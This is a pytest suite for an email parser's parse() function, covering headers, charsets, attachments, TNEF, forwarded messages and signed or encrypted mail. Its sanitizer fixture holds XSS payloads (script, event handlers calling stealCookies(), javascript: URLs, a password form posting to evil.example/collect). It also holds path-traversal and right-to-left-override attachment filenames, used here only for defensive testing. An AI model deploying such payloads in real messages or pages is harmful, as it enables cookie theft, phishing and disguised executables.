"""One test per feature of `postdesk.mail.parse()` as the spec (issue) states it.

Every message is built in the test as bytes (see `_build.py`).  Every parse goes through
`parse_ok()`, which also checks that `to_dict()` is JSON-serialisable (no bytes, no lone
surrogates) - so that property is checked for every message in this file.
"""

from __future__ import annotations

import hashlib
import json
import re
import unicodedata
from datetime import datetime, timedelta, timezone

import pytest

from postdesk.mail import Address, Attachment, ForwardedMessage, ParsedMessage, parse

from ._build import (
    ATTACHMENT_KEYS,
    TO_DICT_KEYS,
    encoded_word,
    message,
    multipart,
    part,
    text_message,
    tnef,
    uuencode,
)

UTC = timezone.utc

AUTO_SUBMITTED_KEYS = {"kind", "reason", "original_message_id"}


def parse_ok(raw: bytes) -> ParsedMessage:
    """parse() plus the invariant every result must satisfy: its dict is valid JSON text."""
    result = parse(raw)
    assert isinstance(result, ParsedMessage)
    as_json = json.dumps(result.to_dict(), ensure_ascii=False)
    as_json.encode("utf-8")  # raises on lone surrogates (e.g. leaked surrogateescape bytes)
    return result


def only(items: list, what: str = "item"):
    assert len(items) == 1, f"expected exactly one {what}, got {items!r}"
    return items[0]


def attachments_of_type(result: ParsedMessage, content_type: str) -> list[Attachment]:
    return [a for a in result.attachments if a.content_type == content_type]


def attachment_named(result: ParsedMessage, filename: str) -> Attachment:
    found = [a for a in result.attachments if a.filename == filename]
    assert found, f"no attachment named {filename!r} in {[a.filename for a in result.attachments]}"
    return found[0]


def has_encrypted_defect(result: ParsedMessage) -> bool:
    return any("encrypted" in d.lower() for d in result.defects)


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


# ============================================================================ headers


def test_message_id_in_reply_to_and_references_have_no_brackets_and_keep_order():
    raw = message(
        headers=[
            ("Message-ID", "<abc.123@mail.example.com>"),
            ("In-Reply-To", "<parent.9@example.org>"),
            ("References", "<root.1@example.org> <mid.5@example.net>\n <parent.9@example.org>"),
        ]
    )
    result = parse_ok(raw)
    assert result.message_id == "abc.123@mail.example.com"
    assert result.in_reply_to == "parent.9@example.org"
    assert result.references == ["root.1@example.org", "mid.5@example.net", "parent.9@example.org"]


def test_missing_message_id_is_none_and_references_empty():
    result = parse_ok(message(headers=[("Message-ID", None)]))
    assert result.message_id is None
    assert result.in_reply_to is None
    assert result.references == []


def test_subject_rfc2047_base64_word():
    result = parse_ok(message(headers=[("Subject", encoded_word("Grüße aus Köln", "utf-8", "B"))]))
    assert result.subject == "Grüße aus Köln"


def test_subject_rfc2047_quoted_printable_word():
    result = parse_ok(message(headers=[("Subject", encoded_word("Café ouvert à midi", "iso-8859-1", "Q"))]))
    assert result.subject == "Café ouvert à midi"


def test_subject_encoded_word_between_plain_text_keeps_the_spaces():
    subject = "Re: " + encoded_word("Café", "utf-8", "Q") + " is open"
    assert parse_ok(message(headers=[("Subject", subject)])).subject == "Re: Café is open"


def test_subject_folded_plain_text_is_unfolded():
    result = parse_ok(message(headers=[("Subject", "A rather long subject line that\n was folded by the sender")]))
    assert result.subject == "A rather long subject line that was folded by the sender"


def test_subject_folded_adjacent_encoded_words_are_joined_without_space():
    # One word split over two encoded words on two lines: the folding whitespace between
    # adjacent encoded words is not part of the text (RFC 2047 section 6.2).
    subject = encoded_word("Zusammenfass", "utf-8", "B") + "\n " + encoded_word("ung für Jörg", "utf-8", "B")
    assert parse_ok(message(headers=[("Subject", subject)])).subject == "Zusammenfassung für Jörg"


def test_subject_adjacent_encoded_words_in_mixed_charsets():
    subject = (
        encoded_word("Grüße ", "iso-8859-1", "Q")
        + " "
        + encoded_word("и привет", "koi8-r", "B")
        + "\n\t"
        + encoded_word(" 日本", "iso-2022-jp", "B")
    )
    assert parse_ok(message(headers=[("Subject", subject)])).subject == "Grüße и привет 日本"


def test_date_is_timezone_aware_with_its_offset():
    result = parse_ok(message(headers=[("Date", "Tue, 03 Jun 2025 14:30:00 +0200")]))
    assert result.date is not None
    assert result.date.tzinfo is not None
    assert result.date.utcoffset() == timedelta(hours=2)
    assert result.date == datetime(2025, 6, 3, 12, 30, tzinfo=UTC)


def test_date_with_minus_0000_is_still_timezone_aware():
    # email.utils.parsedate_to_datetime returns a *naive* datetime for "-0000".
    result = parse_ok(message(headers=[("Date", "Tue, 03 Jun 2025 14:30:00 -0000")]))
    assert result.date is not None
    assert result.date.tzinfo is not None
    assert result.date.utcoffset() == timedelta(0)
    assert result.date == datetime(2025, 6, 3, 14, 30, tzinfo=UTC)


def test_garbage_date_gives_none():
    result = parse_ok(message(headers=[("Date", "the day after tomorrow, 99:99")]))
    assert result.date is None


def test_missing_date_gives_none():
    assert parse_ok(message(headers=[("Date", None)])).date is None


def test_named_addresses_with_encoded_names():
    raw = message(
        headers=[
            ("From", encoded_word("François Müller", "utf-8", "Q") + " <francois@example.com>"),
            ("To", '"Doe, John" <john@example.org>, ' + encoded_word("Åsa Öberg", "iso-8859-1", "B") + " <asa@example.se>"),
            ("Cc", "plain@example.net"),
            ("Reply-To", "Support Team <support@example.com>"),
        ]
    )
    result = parse_ok(raw)
    assert result.from_ == Address("François Müller", "francois@example.com")
    assert result.to == [Address("Doe, John", "john@example.org"), Address("Åsa Öberg", "asa@example.se")]
    assert result.cc == [Address("", "plain@example.net")]
    assert result.reply_to == [Address("Support Team", "support@example.com")]


def test_group_syntax_in_to_lists_the_members():
    raw = message(
        headers=[
            ("To", "Project Team: alice@example.com, Bob B <bob@example.com>;, carol@example.com"),
            ("Cc", "undisclosed-recipients:;"),
        ]
    )
    result = parse_ok(raw)
    assert [a.address for a in result.to] == ["alice@example.com", "bob@example.com", "carol@example.com"]
    assert result.to[1].name == "Bob B"
    assert result.cc == []


def test_raw_utf8_headers_without_declaration():
    raw = message(
        part("text/plain", b"Hallo\n"),
        headers=[
            ("Subject", "Grüße aus Köln – Übersicht".encode("utf-8")),
            ("From", "Jürgen Weiß <juergen@example.de>".encode("utf-8")),
        ],
    )
    result = parse_ok(raw)
    assert result.subject == "Grüße aus Köln – Übersicht"
    assert result.from_ == Address("Jürgen Weiß", "juergen@example.de")


def test_raw_koi8r_headers_decoded_with_the_body_charset():
    body = "Добрый день! Отчёт во вложении.\n"
    raw = message(
        part("text/plain; charset=koi8-r", body.encode("koi8-r"), cte="8bit"),
        headers=[
            ("Subject", "Отчёт о продажах за третий квартал".encode("koi8-r")),
            ("From", "Сергей Иванов <sergey@example.ru>".encode("koi8-r")),
        ],
    )
    result = parse_ok(raw)
    assert result.subject == "Отчёт о продажах за третий квартал"
    assert result.from_ == Address("Сергей Иванов", "sergey@example.ru")
    assert "Отчёт во вложении" in result.text


def test_raw_latin1_from_name_without_any_declaration():
    raw = message(
        part("text/plain", b"Hello, see you tomorrow.\n"),
        headers=[("From", "José Müller <jose@example.es>".encode("latin-1"))],
    )
    result = parse_ok(raw)
    assert result.from_ == Address("José Müller", "jose@example.es")


# ============================================================================ body charsets

DECLARED_BODY_CHARSETS = [
    ("iso-2022-jp", "こんにちは、世界。お元気ですか。", "7bit"),
    ("gb2312", "你好，世界。这是一个测试邮件。", "8bit"),
    ("koi8-r", "Привет, мир! Это тестовое письмо.", "8bit"),
    ("windows-1251", "Здравствуйте! Счёт во вложении.", "8bit"),
    ("windows-1252", "Café – “quoted” costs 50 € … naïve", "8bit"),
    ("shift_jis", "日本語のメールです。よろしくお願いします。", "8bit"),
]


@pytest.mark.parametrize(("charset", "text", "cte"), DECLARED_BODY_CHARSETS, ids=[c for c, _, _ in DECLARED_BODY_CHARSETS])
def test_body_in_declared_charset(charset, text, cte):
    raw = message(part(f"text/plain; charset={charset}", text.encode(charset), cte=cte))
    assert text in parse_ok(raw).text


@pytest.mark.parametrize("charset", ["koi8-r", "windows-1251", "shift_jis"])
def test_body_in_declared_charset_base64(charset):
    text = {"koi8-r": "Привет, мир!", "windows-1251": "Здравствуйте, друзья!", "shift_jis": "日本語のメールです。"}[charset]
    raw = message(part(f"text/plain; charset={charset}", text.encode(charset), cte="base64"))
    assert text in parse_ok(raw).text


def test_body_in_windows_1251_without_charset_declared():
    text = (
        "Здравствуйте! Пожалуйста, пришлите счёт за прошлый месяц и акт выполненных работ. "
        "Спасибо, с уважением, Иван Петров."
    )
    raw = message(part("text/plain", text.encode("windows-1251"), cte="8bit"))
    assert text in parse_ok(raw).text


def test_windows_1252_bytes_mislabelled_iso_8859_1():
    body = b"\x93Smart quotes\x94 and \x91single\x92, 50 \x80 \x96 en dash \x97 em dash\x85\n"
    raw = message(part("text/plain; charset=iso-8859-1", body, cte="8bit"))
    text = parse_ok(raw).text
    assert "“Smart quotes” and ‘single’, 50 € – en dash — em dash…" in text
    assert not any(0x80 <= ord(c) <= 0x9F for c in text), "C1 control characters left in text"


def test_unknown_charset_name_falls_back_to_a_guess():
    text = "Grüße aus München! Die Größe der Übersicht ist schön."
    raw = message(part("text/plain; charset=x-unknown-foo", text.encode("utf-8"), cte="8bit"))
    assert text in parse_ok(raw).text


def test_bytes_invalid_in_declared_charset_still_give_readable_text():
    body = "Bonjour, merci pour la crème brûlée et le café. À bientôt, Hélène.\n".encode("latin-1")
    raw = message(part("text/plain; charset=utf-8", body, cte="8bit"))
    text = parse_ok(raw).text
    assert "Bonjour, merci pour la cr" in text
    assert "et le caf" in text


def test_quoted_printable_body_leaves_no_artefacts():
    long_line = "Dies ist eine sehr lange Zeile mit Umlauten wie äöü und ß, die ganz bestimmt weich umbrochen wird. " * 3
    body = f"Grüße,\n{long_line.strip()}\nEnde.\n"
    raw = message(part("text/plain; charset=utf-8", body, cte="quoted-printable"))
    assert b"=C3=A4" in raw and b"=\n" in raw  # the test really uses QP with soft breaks
    text = parse_ok(raw).text
    assert "Grüße" in text
    assert long_line.strip() in text
    assert "=C3" not in text
    assert "=\n" not in text


def test_base64_body_leaves_no_artefacts():
    body = "Hallo Bob,\n\nim Anhang die Übersicht für März.\n\nViele Grüße\n"
    encoded_line = "SGFsbG8gQm9i"  # base64 of "Hallo Bob"
    raw = message(part("text/plain; charset=utf-8", body, cte="base64"))
    assert encoded_line.encode() in raw
    text = parse_ok(raw).text
    assert "im Anhang die Übersicht für März." in text
    assert encoded_line not in text


# ============================================================================ text vs html


def test_text_plain_alternative_is_preferred_for_text():
    raw = message(
        multipart(
            "alternative",
            [
                part("text/plain; charset=utf-8", "Plain version of the message.\n"),
                part("text/html; charset=utf-8", "<html><body><p>HTML version of the message.</p></body></html>\n"),
            ],
        )
    )
    result = parse_ok(raw)
    assert "Plain version of the message." in result.text
    assert "HTML version" not in result.text
    assert result.html is not None and "HTML version of the message." in result.html


def test_plain_message_has_no_html():
    assert parse_ok(message()).html is None


def test_html_only_message_gets_text_from_the_html():
    html = "<html><body><h1>Welcome aboard</h1><p>Your ticket <b>1234</b> was updated.</p></body></html>\n"
    result = parse_ok(message(part("text/html; charset=utf-8", html)))
    assert result.text.strip()
    assert "Welcome aboard" in result.text
    assert "Your ticket 1234 was updated." in result.text
    assert "<p>" not in result.text and "<b>" not in result.text


HOSTILE_HTML = """<html><head>
<style>.secret-style-rule { color: red }</style>
<script>alert('script-body')</script>
</head>
<body onload="stealCookies()">
<p onclick="stealCookies()">Hello staff <a href="javascript:alert(1)">click me</a>
<a href="https://example.com/ok">safe link</a> <a href="JaVaScRiPt:alert(3)">again</a></p>
<form action="https://evil.example/collect"><input type="password" name="pw"><button>Go</button></form>
<div style="width: expression(alert(1))">expression div</div>
<div style="background:url(javascript:alert(2))">background div</div>
<img src="cid:logo@example.com" alt="logo">
<img src="x.png" onerror="stealCookies()">
</body></html>
"""


@pytest.fixture(scope="module")
def hostile() -> ParsedMessage:
    raw = message(
        multipart(
            "related",
            [
                part("text/html; charset=utf-8", HOSTILE_HTML, cte="quoted-printable"),
                part("image/png", PNG, cte="base64", content_id="<logo@example.com>", disposition="inline"),
            ],
        )
    )
    result = parse_ok(raw)
    assert result.html is not None
    return result


def test_html_sanitized_keeps_the_content(hostile):
    assert "Hello staff" in hostile.html
    assert "https://example.com/ok" in hostile.html


def test_html_sanitized_has_no_script(hostile):
    assert "<script" not in hostile.html.lower()
    assert "script-body" not in hostile.html


def test_html_sanitized_has_no_event_handlers(hostile):
    assert not re.search(r"\son[a-z]+\s*=", hostile.html, re.IGNORECASE)
    assert "stealCookies" not in hostile.html


def test_html_sanitized_has_no_javascript_urls(hostile):
    assert "javascript:" not in hostile.html.lower()


def test_html_sanitized_has_no_forms(hostile):
    lowered = hostile.html.lower()
    assert "<form" not in lowered
    assert "<input" not in lowered


def test_html_sanitized_drops_style_element_content(hostile):
    assert "<style" not in hostile.html.lower()
    assert "secret-style-rule" not in hostile.html


def test_html_sanitized_drops_css_expression(hostile):
    assert "expression(" not in hostile.html.lower()


def test_html_sanitized_drops_css_javascript_url(hostile):
    assert "url(javascript" not in hostile.html.lower().replace(" ", "")


def test_html_sanitized_keeps_cid_image_src(hostile):
    assert re.search(r"""src=["']?cid:logo@example\.com""", hostile.html)


# ============================================================================ attachments


def attachment_message(disposition_header: str, content_type: str = "application/pdf", data: bytes = PDF) -> bytes:
    """A text part plus one attachment whose Content-Disposition is given verbatim."""
    return message(
        multipart(
            "mixed",
            [
                part("text/plain; charset=utf-8", "See attached.\n"),
                part(content_type, data, cte="base64", headers=[("Content-Disposition", disposition_header)]),
            ],
        )
    )


def test_attachment_filename_rfc2231_with_charset_and_continuation():
    disp = "attachment;\n filename*0*=utf-8''Gr%C3%BC%C3%9Fe%20aus%20;\n filename*1*=K%C3%B6ln.pdf"
    result = parse_ok(attachment_message(disp))
    att = only(attachments_of_type(result, "application/pdf"), "pdf")
    assert att.filename == "Grüße aus Köln.pdf"


def test_attachment_filename_rfc2047_encoded():
    disp = 'attachment; filename="' + encoded_word("Résumé été.pdf", "utf-8", "B") + '"'
    result = parse_ok(attachment_message(disp))
    assert only(attachments_of_type(result, "application/pdf"), "pdf").filename == "Résumé été.pdf"


def test_attachment_filename_rfc2047_in_content_type_name():
    raw = message(
        multipart(
            "mixed",
            [
                part("text/plain", "See attached.\n"),
                part(f'application/pdf; name="{encoded_word("Übersicht.pdf", "iso-8859-1", "Q")}"', PDF, cte="base64"),
            ],
        )
    )
    assert only(attachments_of_type(parse_ok(raw), "application/pdf"), "pdf").filename == "Übersicht.pdf"


def assert_safe_filename(name: str) -> None:
    assert name
    assert "/" not in name and "\\" not in name
    assert not name.startswith(".")
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in name), repr(name)
    assert len(name.encode("utf-8")) <= 255


def test_attachment_filename_path_traversal_keeps_last_component():
    result = parse_ok(attachment_message('attachment; filename="../../etc/passwd"', "text/plain", b"root:x:0:0\n"))
    names = [a.filename for a in result.attachments]
    assert "passwd" in names
    for name in names:
        assert_safe_filename(name)


def test_attachment_filename_windows_path_keeps_last_component():
    result = parse_ok(attachment_message('attachment; filename="..\\\\..\\\\windows\\\\boot.ini"', "text/plain", b"[boot]\n"))
    names = [a.filename for a in result.attachments]
    assert "boot.ini" in names
    for name in names:
        assert_safe_filename(name)


def test_attachment_filename_leading_dots_removed():
    result = parse_ok(attachment_message('attachment; filename=".htaccess"', "text/plain", b"Deny from all\n"))
    att = only(attachments_of_type(result, "text/plain"), "text/plain attachment")
    assert_safe_filename(att.filename)
    assert "htaccess" in att.filename


def test_attachment_filename_control_characters_removed():
    result = parse_ok(attachment_message("attachment; filename*=utf-8''bad%01%07%1Fna%0Ame%7F.txt", "text/plain", b"hi\n"))
    att = only(attachments_of_type(result, "text/plain"), "text/plain attachment")
    assert_safe_filename(att.filename)
    assert att.filename.startswith("bad")
    assert att.filename.endswith("me.txt")


def test_attachment_filename_right_to_left_override_removed():
    # "invoice<RLO>fdp.exe" displays as "invoiceexe.pdf"; the real extension must show.
    result = parse_ok(attachment_message("attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe", "application/octet-stream", b"MZ\x90\x00"))
    att = only(attachments_of_type(result, "application/octet-stream"), "exe")
    assert "\u202e" not in att.filename
    assert_safe_filename(att.filename)
    assert att.filename.startswith("invoice")
    assert att.filename.endswith(".exe")


def test_attachment_filename_1000_chars_capped_keeping_extension():
    result = parse_ok(attachment_message(f'attachment; filename="{"a" * 1000}.pdf"'))
    att = only(attachments_of_type(result, "application/pdf"), "pdf")
    assert len(att.filename.encode("utf-8")) <= 255
    assert att.filename.endswith(".pdf")
    assert att.filename.startswith("aaaa")


def test_attachment_filename_multibyte_capped_in_utf8_bytes_keeping_extension():
    encoded = "%D0%B6" * 1000  # "ж" * 1000: 2000 bytes of UTF-8
    result = parse_ok(attachment_message(f"attachment; filename*=utf-8''{encoded}.docx"))
    att = only(attachments_of_type(result, "application/pdf"), "attachment")
    assert len(att.filename.encode("utf-8")) <= 255
    assert att.filename.endswith(".docx")
    assert att.filename.startswith("жжж")


@pytest.mark.parametrize(("content_type", "data", "extension"), [("application/pdf", PDF, ".pdf"), ("image/png", PNG, ".png")])
def test_attachment_without_name_gets_a_name_by_type(content_type, data, extension):
    result = parse_ok(attachment_message("attachment", content_type, data))
    att = only(attachments_of_type(result, content_type), content_type)
    assert_safe_filename(att.filename)
    assert att.filename.endswith(extension)
    assert len(att.filename) > len(extension)


def test_attachment_content_type_is_lowercase():
    raw = message(
        multipart(
            "mixed",
            [part("text/plain", "x\n"), part('Application/PDF; name="a.pdf"', PDF, cte="base64", filename="a.pdf")],
        )
    )
    att = attachment_named(parse_ok(raw), "a.pdf")
    assert att.content_type == "application/pdf"


def test_attachment_size_sha256_and_data_are_of_decoded_bytes():
    data = bytes(range(256)) * 40
    result = parse_ok(attachment_message('attachment; filename="blob.bin"', "application/octet-stream", data))
    att = attachment_named(result, "blob.bin")
    assert att.data == data
    assert att.size == len(data)
    assert att.sha256 == hashlib.sha256(data).hexdigest()


def test_attachment_quoted_printable_decoded():
    data = "Zeile mit Umlauten äöü\n".encode("utf-8")
    raw = message(
        multipart(
            "mixed",
            [part("text/plain", "x\n"), part("text/csv; charset=utf-8", data, cte="quoted-printable", filename="t.csv")],
        )
    )
    att = attachment_named(parse_ok(raw), "t.csv")
    assert att.data.replace(b"\r\n", b"\n") == data
    assert b"=C3" not in att.data


def test_attachment_content_id_without_brackets():
    result = parse_ok(
        message(
            multipart(
                "mixed",
                [
                    part("text/plain", "x\n"),
                    part("image/png", PNG, cte="base64", filename="pic.png", content_id="<pic.1@example.com>"),
                ],
            )
        )
    )
    assert attachment_named(result, "pic.png").content_id == "pic.1@example.com"


def related_message(image: bytes, html: str = '<p>Logo: <img src="cid:logo@example.com"></p>') -> bytes:
    return message(
        multipart(
            "related",
            [part("text/html; charset=utf-8", f"<html><body>{html}</body></html>\n"), image],
            params='; type="text/html"',
        )
    )


@pytest.mark.parametrize("disposition", ["inline", "attachment", None])
def test_image_referenced_by_cid_is_inline(disposition):
    image = part(
        'image/png; name="logo.png"',
        PNG,
        cte="base64",
        content_id="<logo@example.com>",
        headers=[("Content-Disposition", f'{disposition}; filename="logo.png"' if disposition else None)],
    )
    result = parse_ok(related_message(image))
    att = only(attachments_of_type(result, "image/png"), "png")
    assert att.inline is True
    assert att.content_id == "logo@example.com"
    assert att.data == PNG


@pytest.mark.parametrize("disposition", ["inline", None])
def test_image_not_referenced_is_not_inline(disposition):
    image = part(
        'image/png; name="other.png"',
        PNG,
        cte="base64",
        content_id="<other@example.com>",
        headers=[("Content-Disposition", disposition)],
    )
    result = parse_ok(related_message(image, "<p>No picture here.</p>"))
    att = only(attachments_of_type(result, "image/png"), "png")
    assert att.inline is False


def test_image_referenced_by_content_location_is_inline():
    url = "http://www.example.com/images/logo.png"
    image = part("image/png", PNG, cte="base64", headers=[("Content-Location", url)])
    result = parse_ok(related_message(image, f'<p>Logo: <img src="{url}"></p>'))
    att = only(attachments_of_type(result, "image/png"), "png")
    assert att.inline is True
    assert att.content_location == url


# ============================================================================ TNEF

TNEF_FILES = [("report.pdf", PDF), ("notes.txt", b"Some notes from Outlook.\r\n")]


def test_tnef_writer_output_parses_with_tnefparse():
    from tnefparse.tnef import TNEF

    parsed = TNEF(tnef(TNEF_FILES, body="Body from Outlook"))
    assert all(obj.good_checksum for obj in parsed.objects)
    assert [(a.name, a.data) for a in parsed.attachments] == TNEF_FILES
    assert parsed.body == b"Body from Outlook"


def winmail_message(winmail: bytes, *, with_text: bool = True) -> bytes:
    parts = [part("text/plain; charset=utf-8", "Please see the attached files.\n")] if with_text else []
    parts.append(part('application/ms-tnef; name="winmail.dat"', winmail, cte="base64", filename="winmail.dat"))
    return message(multipart("mixed", parts))


def test_tnef_inner_attachments_extracted():
    result = parse_ok(winmail_message(tnef(TNEF_FILES)))
    for name, data in TNEF_FILES:
        att = attachment_named(result, name)
        assert att.data == data
        assert att.size == len(data)
        assert att.sha256 == hashlib.sha256(data).hexdigest()


def test_tnef_original_winmail_dat_is_kept():
    winmail = tnef(TNEF_FILES)
    result = parse_ok(winmail_message(winmail))
    att = attachment_named(result, "winmail.dat")
    assert att.content_type == "application/ms-tnef"
    assert att.data == winmail


def test_tnef_body_becomes_text_when_there_is_no_other_text():
    winmail = tnef([("notes.txt", b"inner notes\n")], body="Hello from Outlook, the body lives in TNEF.")
    result = parse_ok(winmail_message(winmail, with_text=False))
    assert "Hello from Outlook, the body lives in TNEF." in result.text
    assert attachment_named(result, "notes.txt").data == b"inner notes\n"


# ============================================================================ forwarded, nested, digest, uuencode

INNER = message(
    part("text/plain; charset=utf-8", "The numbers are attached.\n"),
    headers=[
        ("From", "Carol Inner <carol@example.net>"),
        ("To", "alice@example.com"),
        ("Subject", "Quarterly numbers"),
        ("Date", "Fri, 30 May 2025 08:15:00 -0400"),
        ("Message-ID", "<inner-42@example.net>"),
    ],
)


def test_forwarded_message_is_an_eml_attachment_with_its_headline():
    raw = message(
        multipart("mixed", [part("text/plain", "FYI, see below.\n"), part("message/rfc822", INNER)]),
        headers=[("Subject", "Fwd: Quarterly numbers")],
    )
    result = parse_ok(raw)
    att = only(attachments_of_type(result, "message/rfc822"), "message/rfc822 attachment")
    assert_safe_filename(att.filename)
    assert att.filename.endswith(".eml")
    assert "Quarterly numbers" in att.filename
    assert b"Subject: Quarterly numbers" in att.data
    assert att.size == len(att.data)
    fwd = att.forwarded
    assert isinstance(fwd, ForwardedMessage)
    assert fwd.subject == "Quarterly numbers"
    assert fwd.from_ == Address("Carol Inner", "carol@example.net")
    assert fwd.message_id == "inner-42@example.net"
    assert fwd.date == datetime(2025, 5, 30, 12, 15, tzinfo=UTC)
    assert fwd.date.tzinfo is not None
    assert fwd in result.forwarded
    assert "FYI, see below." in result.text


def test_forwarded_message_inside_forwarded_message():
    middle = message(
        multipart("mixed", [part("text/plain", "Forwarding again.\n"), part("message/rfc822", INNER)]),
        headers=[("Subject", "Fwd: Quarterly numbers"), ("From", "Dave <dave@example.org>"), ("Message-ID", "<middle-7@example.org>")],
    )
    raw = message(
        multipart("mixed", [part("text/plain", "Outer note.\n"), part("message/rfc822", middle)]),
        headers=[("Subject", "Fwd: Fwd: Quarterly numbers")],
    )
    result = parse_ok(raw)
    assert "Outer note." in result.text
    emls = attachments_of_type(result, "message/rfc822")
    assert emls, "the forwarded message is kept as an attachment"
    outer = [a for a in emls if a.forwarded and a.forwarded.subject == "Fwd: Quarterly numbers"]
    assert outer, [a.forwarded for a in emls]
    assert outer[0].forwarded.from_ == Address("Dave", "dave@example.org")
    assert b"<inner-42@example.net>" in outer[0].data  # the inner message travels inside it
    assert "Fwd: Quarterly numbers" in [f.subject for f in result.forwarded]


def test_nested_multiparts_five_deep():
    alternative = multipart(
        "alternative",
        [
            part("text/plain; charset=utf-8", "Deep plain text.\n"),
            multipart(
                "related",
                [
                    part("text/html; charset=utf-8", '<p>Deep <i>html</i> text. <img src="cid:deep@x"></p>\n'),
                    part("image/png", PNG, cte="base64", content_id="<deep@x>", filename="deep.png"),
                ],
            ),
        ],
    )
    level4 = multipart("mixed", [alternative, part("application/pdf", PDF, cte="base64", filename="deep.pdf")])
    level3 = multipart("mixed", [level4])
    level2 = multipart("mixed", [level3])
    raw = message(multipart("mixed", [level2]))
    result = parse_ok(raw)
    assert "Deep plain text." in result.text
    assert result.html is not None and "html" in result.html and "Deep" in result.html
    assert attachment_named(result, "deep.pdf").data == PDF
    assert attachment_named(result, "deep.png").inline is True


def test_multipart_digest_parts_default_to_message_rfc822():
    digest_parts = [
        b"\n"
        + message(
            part("text/plain", f"Digest body {n}.\n"),
            headers=[("Subject", f"Digest item {n}"), ("Message-ID", f"<digest-{n}@example.com>")],
        )
        for n in (1, 2, 3)
    ]
    raw = message(multipart("digest", digest_parts), headers=[("Subject", "List digest, Vol 1")])
    result = parse_ok(raw)
    emls = attachments_of_type(result, "message/rfc822")
    assert len(emls) == 3
    assert sorted(a.forwarded.subject for a in emls) == ["Digest item 1", "Digest item 2", "Digest item 3"]
    assert all(a.filename.endswith(".eml") for a in emls)


def test_uuencoded_block_becomes_an_attachment_and_leaves_the_text():
    data = bytes(range(256)) * 3
    body = b"Here is the file you asked for:\n\n" + uuencode(data, "hello.bin") + b"\nThanks, Alice\n"
    result = parse_ok(message(part("text/plain; charset=us-ascii", body)))
    att = attachment_named(result, "hello.bin")
    assert att.data == data
    assert att.size == len(data)
    assert "Here is the file you asked for:" in result.text
    assert "Thanks, Alice" in result.text
    assert "begin 644" not in result.text
    assert not re.search(r"^(begin \d{3} .*|end|M.{60})$", result.text, re.MULTILINE), result.text


# ============================================================================ signed and encrypted

SIGNED_TEXT = "This content is signed.\n"


def test_smime_signed_message():
    signature = b"0\x82\x01\x00\x06\t*\x86H\x86\xf7\r\x01\x07\x02" + bytes(64)
    raw = message(
        multipart(
            "signed",
            [
                part("text/plain; charset=utf-8", SIGNED_TEXT),
                part('application/pkcs7-signature; name="smime.p7s"', signature, cte="base64", filename="smime.p7s"),
            ],
            params='; protocol="application/pkcs7-signature"; micalg=sha-256',
        )
    )
    result = parse_ok(raw)
    assert "This content is signed." in result.text
    sig = only(attachments_of_type(result, "application/pkcs7-signature"), "signature")
    assert sig.data == signature
    assert not has_encrypted_defect(result)


def _opaque_signed_smime(inner: bytes) -> bytes:
    """A real S/MIME signed-data blob (cryptography signs with a throwaway key)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import pkcs7
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "signer@example.com")])
    now = datetime.now(timezone.utc)
    cert = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(1).not_valid_before(now).not_valid_after(now + timedelta(days=1)).sign(key, hashes.SHA256())
    )
    return pkcs7.PKCS7SignatureBuilder().set_data(inner).add_signer(cert, key, hashes.SHA256()).sign(serialization.Encoding.DER, [])


def test_opaque_smime_signed_content_is_the_message():
    inner = (
        b'Content-Type: multipart/mixed; boundary="in"\r\n\r\n--in\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n'
        + SIGNED_TEXT.encode()
        + b'\r\n--in\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="quote.pdf"\r\n\r\n%PDF-1.4\r\n--in--\r\n'
    )
    blob = _opaque_signed_smime(inner)
    raw = message(
        part('application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"', blob, cte="base64", filename="smime.p7m")
    )
    result = parse_ok(raw)
    assert "This content is signed." in result.text
    assert attachment_named(result, "quote.pdf").data.startswith(b"%PDF-1.4")
    assert attachment_named(result, "smime.p7m").data == blob, "the signature blob is kept"
    assert not has_encrypted_defect(result)


def test_pgp_signed_message():
    signature = b"-----BEGIN PGP SIGNATURE-----\n\niQEzBAEBCAAdFiEEabc=\n=abcd\n-----END PGP SIGNATURE-----\n"
    raw = message(
        multipart(
            "signed",
            [
                part("text/plain; charset=utf-8", SIGNED_TEXT, cte="quoted-printable"),
                part('application/pgp-signature; name="signature.asc"', signature, filename="signature.asc"),
            ],
            params='; protocol="application/pgp-signature"; micalg=pgp-sha256',
        )
    )
    result = parse_ok(raw)
    assert "This content is signed." in result.text
    assert "BEGIN PGP SIGNATURE" not in result.text
    sig = only(attachments_of_type(result, "application/pgp-signature"), "signature")
    assert sig.data.replace(b"\r\n", b"\n") == signature
    assert not has_encrypted_defect(result)


def test_pgp_encrypted_message_kept_and_flagged():
    ciphertext = b"-----BEGIN PGP MESSAGE-----\n\nhQEMA1234567890abcdef\n=wxyz\n-----END PGP MESSAGE-----\n"
    raw = message(
        multipart(
            "encrypted",
            [
                part("application/pgp-encrypted", b"Version: 1\n"),
                part('application/octet-stream; name="encrypted.asc"', ciphertext, headers=[("Content-Disposition", 'inline; filename="encrypted.asc"')]),
            ],
            params='; protocol="application/pgp-encrypted"',
        )
    )
    result = parse_ok(raw)
    assert result.attachments
    assert any(a.data.replace(b"\r\n", b"\n") == ciphertext for a in result.attachments)
    assert has_encrypted_defect(result), result.defects


def test_smime_enveloped_message_kept_and_flagged():
    envelope = b"0\x80\x06\t*\x86H\x86\xf7\r\x01\x07\x03\xa0\x80" + bytes(range(200))
    raw = message(
        part(
            'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
            envelope,
            cte="base64",
            filename="smime.p7m",
        )
    )
    result = parse_ok(raw)
    att = only(attachments_of_type(result, "application/pkcs7-mime"), "p7m")
    assert att.data == envelope
    assert has_encrypted_defect(result), result.defects


